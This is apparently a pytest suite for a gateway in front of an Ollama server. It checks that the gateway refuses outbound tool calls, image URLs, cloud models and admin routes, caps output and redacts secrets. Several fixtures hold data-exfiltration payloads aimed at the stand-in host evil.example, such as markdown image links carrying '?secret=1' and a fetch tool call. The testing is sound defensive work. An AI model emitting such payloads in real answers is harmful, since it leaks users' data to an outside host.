"""What Ollama's dialect refuses, removes and bounds, in requests and in answers."""

from __future__ import annotations

import base64
import json

import httpx2
import ollama
import pytest

from gateway import Served, binary

# `served` and `server` are fixtures.
from ollama_served import (
    HELLO,
    LINES,
    MODELS,
    SECRET,
    TIMES,
    TOOL,
    base,
    chat_says,
    client,
    last,
    line,
    post,
    served,
    server,
    used,
)
from stub_server import StubServer


@pytest.mark.parametrize("stream", [False, True])
def test_a_tool_call_to_an_uncontrolled_host_is_refused(
    served: Served, server: StubServer, stream: bool
) -> None:
    call = {"function": {"name": "fetch", "arguments": {"url": "https://evil.example/?q=1"}}}
    message = {"role": "assistant", "content": "", "tool_calls": [call]}
    if stream:
        chat_says(server, line("before"), line("", tool_calls=[call]), last())
    else:
        server.say("/api/chat", base(message=message, done=True, done_reason="stop", **TIMES))
    answer = post(served, "/api/chat", model="llama", messages=HELLO, tools=[TOOL], stream=stream)
    assert answer.status_code == 200 and "evil.example" not in answer.text
    lines = [json.loads(line) for line in answer.text.splitlines()]
    said = "".join(line["message"]["content"] for line in lines)
    assert "[refused by policy: answer-uncontrolled – the tool fetch may reach" in said
    assert said.startswith("before") == stream
    assert lines[-1]["done"] and not any("tool_calls" in line["message"] for line in lines)
    # Ollama's own client reads it as an answer.
    parts = client(served).chat(model="llama", messages=HELLO, stream=stream)
    last_part = list(parts)[-1] if stream else parts
    assert last_part.done and not last_part.message.tool_calls


def test_an_image_across_lines_loads_nothing(served: Served, server: StubServer) -> None:
    text = "see ![x](https://evil.example/?secret=1) end"
    for member in ("content", "thinking"):
        pieces = []
        for letter in text:
            message = {"role": "assistant", "content": "", member: letter}
            pieces.append(json.dumps(base(message=message, done=False)).encode() + b"\n")
        chat_says(server, *pieces, last())
        parts = list(client(served).chat(model="llama", messages=HELLO, stream=True))
        joined = "".join(getattr(part.message, member) or "" for part in parts)
        assert "](https://evil" not in joined and joined.endswith(" end"), joined
        assert parts[-1].done and parts[-1].eval_count == 3
    for letter_count in (1, 5):
        pieces = [
            json.dumps(base(response=text[at : at + letter_count], done=False)).encode() + b"\n"
            for at in range(0, len(text), letter_count)
        ]
        end = json.dumps(base(response="", done=True, **TIMES)).encode()
        server.say("/api/generate", *pieces, end, media=LINES)
        parts = list(client(served).generate(model="llama", prompt="p", stream=True))
        joined = "".join(part.response or "" for part in parts)
        assert "](https://evil" not in joined and joined.endswith(" end"), joined


def test_the_cap_is_the_smaller_one(served: Served, server: StubServer) -> None:
    server.say("/api/chat", base(message={"role": "assistant", "content": "x"}, done=True))
    token = served.issue("tests/capped", "--class", "capped", models=MODELS)
    for asked, written in [(None, 64), (9, 9), (1000, 64), (-1, 64), (-2, 64)]:
        options = {} if asked is None else {"options": {"num_predict": asked, "top_k": 3}}
        answer = post(
            served, "/api/chat", token, model="llama", messages=HELLO, stream=False, **options
        )
        assert answer.status_code == 200, answer.text
        assert server.last().body["options"]["num_predict"] == written
        lowered = answer.headers.get("token-shield-output-tokens")
        assert lowered == ("64" if asked == 1000 else None)
    refused = post(
        served, "/api/chat", token, model="llama", messages=HELLO, options={"num_predict": 0}
    )
    assert (refused.status_code, refused.json()["param"]) == (400, "options.num_predict")
    # Without a cap of the class, none is written.
    post(served, "/api/chat", model="llama", messages=HELLO, stream=False)
    assert "options" not in server.last().body


def test_the_servers_memory_is_not_set(served: Served, server: StubServer) -> None:
    server.say("/api/chat", base(message={"role": "assistant", "content": "x"}, done=True))
    options = {"num_gpu": 0, "main_gpu": 1, "use_mmap": False, "seed": 1, "sparkle": 2}
    answer = post(served, "/api/chat", model="llama", messages=HELLO, stream=False, options=options)
    assert server.last().body["options"] == {"seed": 1}
    dropped = set(answer.headers["token-shield-dropped"].split(", "))
    assert dropped == {f"options.{name}" for name in options if name != "seed"}
    for field in ("template", "remote_host", "Options"):
        body = {field: {"a": 1} if field == "Options" else "x"}
        refused = post(served, "/api/generate", model="llama", prompt="p", **body)
        assert refused.status_code == 400, refused.text


def test_images_are_content_and_no_url(served: Served) -> None:
    for image, status in [
        ("https://evil.example/1.png", 403),
        ("//evil.example/1.png", 403),
        (base64.b64encode(b"#EXTM3U\nhttps://evil.example/").decode(), 400),
    ]:
        messages = [{"role": "user", "content": "x", "images": [image]}]
        refused = post(served, "/api/chat", model="llama", messages=messages)
        assert refused.status_code == status, refused.text
        refused = post(served, "/api/generate", model="llama", prompt="x", images=[image])
        assert refused.status_code == status, refused.text


def test_a_hosted_tool_is_refused(served: Served) -> None:
    refused = post(
        served, "/api/chat", model="llama", messages=HELLO, tools=[{"type": "web_search"}]
    )
    assert (refused.status_code, refused.json()["code"]) == (403, "tool-not-allowed")


@pytest.mark.parametrize(
    "path", ["/api/chat", "/api/generate", "/v1/chat/completions", "/v1/messages"]
)
def test_a_cloud_model_is_refused(served: Served, server: StubServer, path: str) -> None:
    before = len(server.requests)
    body = {"prompt": "p"} if path == "/api/generate" else {"messages": HELLO}
    refused = post(served, path, model="cloudy", **body)
    assert refused.status_code == 403 and "egress-uncontrolled" in refused.text
    assert len(server.requests) == before


def test_config_check_warns_of_a_cloud_model(served: Served) -> None:
    checked = binary("config", "check", str(served.config))
    assert 'model "cloudy": the upstream "ollama" forwards' in checked.err, checked.err


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/api/pull"),
        ("POST", "/api/push"),
        ("POST", "/api/create"),
        ("POST", "/api/copy"),
        ("DELETE", "/api/delete"),
        ("POST", f"/api/blobs/sha256:{'0' * 64}"),
        ("HEAD", f"/api/blobs/sha256:{'0' * 64}"),
        ("POST", "/api/me"),
        ("POST", "/api/signout"),
        ("POST", "/api/Chat"),
        ("POST", "/api/experimental/web_search"),
    ],
)
def test_routes_that_administer_are_unknown(
    served: Served, server: StubServer, method: str, path: str
) -> None:
    before = len(server.requests)
    server.say(path, {})
    refused = httpx2.request(
        method,
        served.url + path,
        headers={"authorization": f"Bearer {served.token}"},
        trust_env=False,
    )
    assert refused.status_code == 404
    if method != "HEAD":
        assert refused.json()["code"] == "route-unknown"
        assert isinstance(refused.json()["error"], str)
    assert len(server.requests) == before


def test_scopes_and_methods(served: Served) -> None:
    chats = served.issue("tests/chats", "--scope", "inference.chat", models=MODELS)
    for path, body in [
        ("/api/generate", {"prompt": "p"}),
        ("/api/embed", {"input": "p"}),
        ("/api/embeddings", {"prompt": "p"}),
        ("/api/show", {}),
    ]:
        refused = post(served, path, chats, model="llama", **body)
        assert (refused.status_code, refused.json()["code"]) == (403, "scope-missing"), path
    refused = httpx2.get(
        served.url + "/api/chat",
        headers={"authorization": f"Bearer {served.token}"},
        trust_env=False,
    )
    assert (refused.status_code, refused.headers["allow"]) == (405, "POST")
    with pytest.raises(ollama.ResponseError) as failed:
        client(served, "x").chat(model="llama", messages=HELLO)
    assert failed.value.status_code == 401
    refused = post(served, "/api/chat", model="echo", messages=HELLO)
    assert refused.json()["code"] == "dialect-not-served"


@pytest.mark.parametrize("cut", [False, True])
def test_a_stream_without_its_end_is_truncated(
    served: Served, server: StubServer, cut: bool
) -> None:
    chat_says(server, line("half"), cut=cut)
    with pytest.raises(ollama.ResponseError, match="before it was complete"):
        list(client(served).chat(model="llama", messages=HELLO, stream=True))
    answer = post(served, "/api/chat", model="llama", messages=HELLO)
    lines = [json.loads(one) for one in answer.text.splitlines()]
    assert lines[0]["message"]["content"] == "half"
    assert lines[-1]["code"] == "truncated"
    assert used(served, answer)["code"] == "truncated"


def test_errors_of_the_server(served: Served, server: StubServer) -> None:
    server.say("/api/chat", {"error": "out of memory"}, status=500)
    with pytest.raises(ollama.ResponseError, match="out of memory") as failed:
        client(served).chat(model="llama", messages=HELLO)
    assert failed.value.status_code == 500
    chat_says(server, line("a"), b'{"error":"runner stopped"}\n')
    with pytest.raises(ollama.ResponseError, match="runner stopped"):
        list(client(served).chat(model="llama", messages=HELLO, stream=True))
    server.say("/api/chat", b"data: {}\n\n", media="text/event-stream")
    answer = post(served, "/api/chat", model="llama", messages=HELLO)
    assert (answer.status_code, answer.json()["code"]) == (502, "upstream-invalid")


@pytest.mark.parametrize(
    "odd",
    [
        b'{"message":{"content":"a"}} {"message":{"content":"![x](https://evil.example/)"}}',
        b'{"message":{"content":"a"}}\r{"message":{"content":"![x](https://evil.example/)"}}',
        b'{"Message":{"content":"![x](https://evil.example/)"}}',
        b'{"message":{"content":"a","content":"![x](https://evil.example/)"}}',
        b'\xef\xbb\xbf{"message":{"content":"![x](https://evil.example/)"}}',
        b"{'message':{'content':'![x](https://evil.example/)'}}",
    ],
)
def test_lines_with_two_readings_end_the_stream(
    served: Served, server: StubServer, odd: bytes
) -> None:
    chat_says(server, line("fine"), odd + b"\n", last())
    answer = post(served, "/api/chat", model="llama", messages=HELLO)
    assert "evil.example" not in answer.text
    assert json.loads(answer.text.splitlines()[-1])["code"] == "upstream-invalid"


def test_a_secret_across_lines_is_redacted(served: Served, server: StubServer) -> None:
    pieces = [line(letter) for letter in f"key {SECRET} end"]
    chat_says(server, *pieces, last())
    parts = list(client(served).chat(model="llama", messages=HELLO, stream=True))
    joined = "".join(part.message.content or "" for part in parts)
    assert SECRET not in joined and joined.startswith("key ") and joined.endswith(" end")
    assert parts[-1].done
    server.say("/api/chat", {"error": f"bad key {SECRET}"}, status=400)
    assert SECRET not in post(served, "/api/chat", model="llama", messages=HELLO).text
